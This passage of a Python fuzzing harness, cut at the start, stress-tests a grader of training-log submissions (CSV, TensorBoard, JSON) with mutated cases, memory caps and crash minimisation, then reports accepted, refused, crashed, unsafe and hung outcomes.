    def fails(base: Case, rel: str, head: list[bytes]):
        return lambda xs: same(_with(base, rel, b"".join(head + xs)))

    for rel in list(case.files):
        data = case.files[rel]
        if data is None:
            continue
        recs = records(data) if "tfevents" in rel else None
        parts = recs if recs is not None else data.splitlines(keepends=True) if b"\n" in data else []
        if len(parts) > 2:  # the file_version record, or the header line, stays
            keep = ddmin(parts[1:], fails(case, rel, parts[:1]), budget)
            case = _with(case, rel, b"".join(parts[:1] + keep))
    for rel in list(case.files):  # files that need not be there
        if len(case.files) > 1:
            fewer = replace(case, files={k: v for k, v in case.files.items() if k != rel})
            if same(fewer):
                case = fewer
    return case


def _with(case: Case, rel: str, data: bytes) -> Case:
    return replace(case, files={**case.files, rel: data})


def describe_case(case: Case, limit: int = 3000) -> str:
    """The case as a reproduction: the mutations, submission.toml, and each file (text, or its records)."""
    lines = [
        f"    seed {case.seed}{' (grade --quick)' if case.quick else ''}; mutations: {'; '.join(case.ops)}",
        "    submission.toml:",
        *("      " + x for x in case.toml().splitlines()),
    ]
    for rel, data in case.files.items():
        if data is None:
            lines.append(f"    {rel}: a 9 MiB sparse file (truncate -s 9M)")
            continue
        recs = records(data) if "tfevents" in rel else None
        if recs is not None:
            lines.append(f"    {rel}: {len(data)} bytes, {len(recs)} records:")
            lines += [f"      {_event_text(r)}" for r in recs[:40]] + (["      …"] if len(recs) > 40 else [])
            continue
        try:
            text = data.decode("utf-8")
            shown = repr(text[: limit // 10]) if CONTROL.search(text) else text[:limit]
            lines.append(f"    {rel} ({len(data)} bytes{', first ' + str(limit) if len(text) > limit else ''}):")
            lines += ["      " + (x if len(x) <= 200 else x[:200] + f"… ({len(x):,} characters)") for x in
                      shown.splitlines()]  # fmt: skip
        except UnicodeDecodeError:
            lines.append(f"    {rel} ({len(data)} bytes, base64): {base64.b64encode(data[:300]).decode()}")
    return "\n".join(lines)


def _event_text(rec: bytes) -> str:
    from tensorboard.compat.proto import event_pb2

    ev = event_pb2.Event()
    try:
        ev.ParseFromString(rec[12:-4])
    except Exception:  # noqa: BLE001
        return f"(unparsable record, {len(rec)} bytes)"
    if ev.HasField("file_version"):
        return f"wall {ev.wall_time!r} file_version {ev.file_version!r}"
    vals = [(v.tag, v.simple_value if v.HasField("simple_value") else "tensor") for v in ev.summary.value]
    return f"wall {ev.wall_time!r} step {ev.step} {vals!r}"[:200]


# ---------------------------------------------------------------- worker and main


def cap_memory(extra: int = 2 * GIB) -> None:
    vm = int(Path("/proc/self/status").read_text().split("VmSize:")[1].split()[0]) * 1024
    resource.setrlimit(resource.RLIMIT_AS, (vm + extra, vm + extra))


def prepare(work: Path, quiet: bool = True) -> dict[str, dict]:
    """Import what a grade imports (before the memory cap); the seeds. `quiet` (this process only, never in a test
    session): the grader's log lines and library warnings off, the cases' outcomes are tallied instead."""
    import grader.commands  # noqa: F401
    import grader.grade  # noqa: F401

    if quiet:
        import logging
        import warnings

        logging.disable(logging.CRITICAL)
        warnings.filterwarnings("ignore")
    return build_seeds(work)


def worker(seed: int, start: int, stop: int, work: Path, cache: Path, formats: tuple[str, ...] = LOG_FORMATS) -> None:
    """Cases [start, stop), one JSON line each on stdout."""
    seeds = prepare(work)
    tmp = work / f"w{os.getpid()}"
    cap_memory()
    for i in range(start, stop):
        case = make_case(random.Random(f"{seed}:{i}"), seeds, formats)
        try:
            r = run_checked(case, tmp, cache)
        except MemoryError:
            r = {"outcome": "memory", "detail": "MemoryError", "signature": "memory", "seconds": 0.0}
        r = {k: v for k, v in r.items() if k in ("outcome", "detail", "signature", "seconds", "traceback")}
        print(json.dumps({"i": i, **r, "ops": case.ops, "size": case.size(), "fmt": case.fmt}), flush=True)
    shutil.rmtree(tmp, ignore_errors=True)


def warm(work: Path, cache: Path, seeds: dict[str, dict]) -> list[str]:
    """Grade every seed honestly (each seed stated and not, full and quick) so that the reruns are in the cache."""
    lines = []
    for name in seeds:
        for stated in (True, False):
            for quick in (False, True):
                entry = {**seed_entry(name, stated), **seeds[name]["claims"], "logs": "logs/run.csv"}
                case = Case(name, entry, {"logs/run.csv": csv_text(seeds[name]["curves"]).encode()}, ["warm"], quick)
                t = time.perf_counter()
                r = run_case(case, work / "warm", cache, timeout=1800)
                if stated == SEEDS[name]["stated"] and not quick:
                    lines.append(f"  {name:14} {r['outcome']:9} {time.perf_counter() - t:6.1f} s  {r['logs'][:150]}")
    shutil.rmtree(work / "warm", ignore_errors=True)
    return lines


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--n", type=int, default=3000, help="generated cases")
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--work", type=Path, default=Path("/tmp/fuzz_logs-work"), help="seeds, cases (kept between runs)")
    p.add_argument("--cache", type=Path, default=None, help="rerun cache (default: WORK/cache)")
    p.add_argument("--chunk", type=int, default=250, help="cases per worker process")
    p.add_argument("--minimize", type=int, default=60, help="grades spent reducing each crash class's reproduction")
    p.add_argument(
        "--formats",
        default=",".join(LOG_FORMATS),
        help="the logs generated (csv,tb,json: the cases before the tools' exports; csv,tb: before JSON)",
    )
    p.add_argument("--worker", nargs=3, type=int, help=argparse.SUPPRESS)
    args = p.parse_args()
    formats = tuple(f for f in LOG_FORMATS if f in args.formats.split(","))
    if not formats or set(args.formats.split(",")) - set(LOG_FORMATS):
        p.error(f"--formats: a comma-separated list of {', '.join(LOG_FORMATS)}")
    cache = args.cache or args.work / "cache"
    if args.worker:
        return worker(*args.worker, args.work, cache, formats)
    started = time.perf_counter()
    args.work.mkdir(parents=True, exist_ok=True)
    seeds = prepare(args.work)
    honest = {"csv": HONEST_CSV, "tb": HONEST_TB, "json": HONEST_JSON}
    honest.update(wandb=HONEST_FORMS[:4], hf=HONEST_FORMS[4:7], tbparse=HONEST_FORMS[7:])
    promised = [v for f in formats for v in honest[f]]
    variants = promised + (HONEST_JSON_OTHER if "json" in formats else [])
    unpromised = f" (+{4 * len(HONEST_JSON_OTHER)} of JSON not promised)" if "json" in formats else ""
    print(
        f"fuzz_logs: seed {args.seed}, formats {','.join(formats)}, {args.n:,} generated cases + "
        f"{4 * len(promised)} honest variations{unpromised}; python {sys.version.split()[0]}; hang = over "
        f"{HANG_S:g} s for one student with a warm cache (twice), memory = over 2 GiB more than the worker's baseline",
        flush=True,
    )
    print("seeds (the honest submission graded once, cache warmed):")
    print("\n".join(warm(args.work, cache, seeds)), flush=True)

    honest_lines, honest_bad, honest_refused = [], [], Counter()
    for name in ("sweep-sgd", "run-sgd", "auto-seeded", "run-cosine"):
        for variant in variants:
            r = run_checked(honest_case(seeds, name, variant), args.work / "honest", cache)
            fmt = next(f for f in formats if variant in honest[f]) if variant not in HONEST_JSON_OTHER else "other"
            honest_refused[fmt, r["outcome"] == "refused"] += 1
            msgs = r.get("messages", [])
            logs = next((m for m in msgs if " logs: " in m), "no logs check")
            claims = ", ".join(m.split(":")[0] for m in msgs if " logs: " not in m)
            honest_lines.append(f"  {name:11} {variant[:40]:40} {claims}; {logs[:230]}")
            honest_lines += [f"  {'':11} {'':40} {m[:300]}" for m in msgs if not m.startswith(("PASS", "WARN logs"))]
            if r["outcome"] not in ("accepted", "refused"):
                honest_bad.append((name, variant, r))

    tally, sigs, slowest, by_op, by_fmt = Counter(), {}, 0.0, Counter(), Counter()
    start, t_cases = 0, time.perf_counter()
    while start < args.n:
        stop = min(start + args.chunk, args.n)
        cmd = [
            sys.executable,
            __file__,
            "--worker",
            str(args.seed),
            str(start),
            str(stop),
            "--work",
            str(args.work),
            "--cache",
            str(cache),
            "--formats",
            ",".join(formats),
        ]
        proc = subprocess.run(cmd, capture_output=True, text=True, timeout=TIMEOUT_S * 2 * (stop - start) + 300)
        done = start
        for line in proc.stdout.splitlines():
            try:
                r = json.loads(line)
            except json.JSONDecodeError:
                continue
            tally[r["outcome"]] += 1
            by_fmt[r.get("fmt", "?"), r["outcome"]] += 1
            slowest = max(slowest, r["seconds"])
            done = r["i"] + 1
            if r["outcome"] in ("crash", "unsafe", "hang", "memory"):
                for op in r["ops"]:
                    by_op[re.sub(r"[0-9.e+-]{2,}|'.*'|at \d+.*", "…", op)] += 1
                sig = r["signature"] or r["outcome"]
                if sig not in sigs or r["size"] < sigs[sig]["size"]:
                    sigs[sig] = {**r, "count": sigs.get(sig, {}).get("count", 0)}
                sigs[sig]["count"] += 1
        if done < stop:  # the worker died on case `done`
            tally["crash"] += 1
            sig = f"worker died (rc {proc.returncode})"
            sigs.setdefault(sig, {"i": done, "detail": proc.stderr.strip()[-300:], "count": 0, "size": 0})
            sigs[sig]["count"] += 1
            done += 1
        start = done
        print(f"  cases {start}/{args.n}: {dict(tally)}, {time.perf_counter() - t_cases:.0f} s", flush=True)

    print(
        f"\n{'cases':>8} {'accepted':>9} {'refused':>8} {'crash':>6} {'unsafe':>7} {'hang':>5} {'memory':>7} "
        f"{'slowest s':>10} {'wall s':>7}"
    )
    print(
        f"{args.n:8} {tally['accepted']:9} {tally['refused']:8} {tally['crash']:6} {tally['unsafe']:7} "
        f"{tally['hang']:5} {tally['memory']:7} {slowest:10.1f} {time.perf_counter() - t_cases:7.0f}"
    )
    print("(accepted: the log was read and judged; refused: the log, or the submission, refused with one clean line)")
    for f in formats:
        n = sum(v for (g, _), v in by_fmt.items() if g == f)
        counts = ", ".join(f"{o} {by_fmt[f, o]}" for o in ("accepted", "refused", "crash", "unsafe", "hang", "memory"))
        print(f"  {f:5} {n:5} cases ({n / max(args.n, 1):.0%}): {counts}")
    if by_op:
        print("mutations in the failing cases (how often):", ", ".join(f"{k} ×{v}" for k, v in by_op.most_common(12)))

    print(f"\ncrash, unsafe and hang classes: {len(sigs)}")
    for k, (sig, r) in enumerate(sorted(sigs.items(), key=lambda kv: -kv[1]["count"]), 1):
        print(f"\n[{k}] {sig} — {r['count']} case(s); first detail: {r['detail'][:400]}")
        if "ops" not in r:
            continue
        case = make_case(random.Random(f"{args.seed}:{r['i']}"), seeds, formats)
        if r["outcome"] == "crash" and args.minimize:
            case = minimize(case, sig, args.work / "min", cache, args.minimize)
        saved = write_case(case, args.work / "repro" / str(k)).parent
        print(f"  reproduction (case {r['i']}, reduced; saved in {saved}):")
        print(describe_case(case))
        rerun = run_case(case, args.work / "min", cache)
        if rerun.get("traceback"):
            print("  traceback (innermost frames):")
            print("\n".join("    " + x for x in rerun["traceback"].strip().splitlines()[-14:]))
        elif rerun["outcome"] != "crash":
            print(f"  reduced case: {rerun['outcome']}: {rerun['detail'][:300]}")

    print("\nhonest formatting variations of honest logs (status and message of the logs and claim checks):")
    print("\n".join(honest_lines))
    for name, variant, r in honest_bad:
        print(f"  !! {name} / {variant}: {r['outcome']}: {r['detail'][:300]}")
    said = [f"{f} {honest_refused[f, True]} of {honest_refused[f, True] + honest_refused[f, False]}" for f in formats]
    other = honest_refused["other", True], honest_refused["other", True] + honest_refused["other", False]
    print(
        f"honest variations whose logs were refused: {sum(honest_refused[f, True] for f in formats)} "
        f"({', '.join(said)})" + (f"; JSON layouts not promised, refused: {other[0]} of {other[1]}" if other[1] else "")
    )
    crashes = tally["crash"] + sum(1 for *_, r in honest_bad if r["outcome"] == "crash")
    print(
        f"\ncases {args.n}, accepted {tally['accepted']}, clean refusals {tally['refused']}, unsafe outputs "
        f"{tally['unsafe']}, hangs {tally['hang']}, over 2 GiB {tally['memory']}; "
        f"{time.perf_counter() - started:.0f} s"
    )
    print(f"crashes: {crashes}")


if __name__ == "__main__":
    main()
